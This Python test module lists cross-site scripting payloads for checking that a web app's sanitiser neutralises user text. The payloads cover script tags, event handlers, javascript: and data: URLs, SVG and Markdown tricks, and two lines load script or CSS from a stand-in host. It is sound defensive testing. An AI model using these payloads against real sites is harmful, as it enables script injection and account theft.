"""Classic cross-site scripting payloads, for tests that render text written by people.

Each would run script, load something, or restyle the page if it came through unsanitised.
Collected from the OWASP XSS filter evasion cheat sheet and the usual Markdown link tricks.
"""

XSS_PAYLOADS = [
    # Script tags, plain and disguised.
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    '<script type="module">window.__xss=1</script>',
    "<<script>window.__xss=1;//<</script>",
    # Event handlers.
    '<img src="/static/core/favicon.svg" onload="window.__xss=1">',
    "<img src=x onerror=window.__xss=1>",
    '<body onload="window.__xss=1">',
    "<details open ontoggle=window.__xss=1>",
    '<div onmouseover="window.__xss=1">hover</div>',
    '<input autofocus onfocus="window.__xss=1">',
    '<video><source onerror="window.__xss=1"></video>',
    '<marquee onstart="window.__xss=1">',
    # Out of an attribute written without quotes: no quote or bracket for escaping to change.
    "x onmouseover=window.__xss=1",
    # javascript:, vbscript: and data: URLs in links and images.
    '<a href="javascript:window.__xss=1">click</a>',
    '<a href="JaVaScRiPt:window.__xss=1">click</a>',
    '<a href="jav&#x09;ascript:window.__xss=1">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>',
    '<a href=" javascript:window.__xss=1">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:window.__xss=1">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # Markdown link and image tricks.
    "[click](javascript:window.__xss=1)",
    '[click](javascript:window.__xss=1 "title")',
    "[click](JAVASCRIPT:window.__xss=1)",
    "![img](javascript:window.__xss=1)",
    "[click](data:text/html,<script>window.__xss=1</script>)",
    "[click]( javascript:window.__xss=1 )",
    "[click][ref]\n\n[ref]: javascript:window.__xss=1",
    '[x](https://example.org" onmouseover="window.__xss=1)',
    "<javascript:window.__xss=1>",
    # SVG and MathML.
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text y="20">x</text></a></svg>',
    '<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
    '<math href="javascript:window.__xss=1">x</math>',
    # Frames, objects, forms, meta, base.
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="data:text/html,<script>window.__xss=1</script>">',
    '<form action="javascript:window.__xss=1"><button>go</button></form>',
    '<button formaction="javascript:window.__xss=1">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:window.__xss=1//">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    # Styles that escape the page.
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    '<div style="background:url(javascript:window.__xss=1)">x</div>',
    '<p class="skip-link visually-hidden">borrowed classes</p>',
    # Comments, templates, encoded and broken markup.
    "<!--<img src=x onerror=window.__xss=1>-->",
    "<template><img src=x onerror=window.__xss=1></template>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    '"><script>window.__xss=1</script>',
    "'\"><img src=x onerror=window.__xss=1>",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "{{ request }}{% debug %}",
]

# What the every-field sweep (wsco/core/tests/xss_sweep.py) writes into every text field of every
# model, one world each: between them, a field comes out live whatever the place it is put in.
# Markup, a double-quoted and an unquoted attribute come first, since short fields keep only the
# start; then a single-quoted attribute, a Markdown link and SVG. The last is the whole value
# read as a link's address (the sanitiser's own tests, in test_markdown.py, take the corpus).
FIELD_PROBES = [
    '"><img src=x onerror=window.__xss=1> x onmouseover=window.__xss=1 '
    "'><svg onload=window.__xss=1> [click](javascript:window.__xss=1) "
    "<script>window.__xss=1</script>",
    "javascript:window.__xss=1",
]
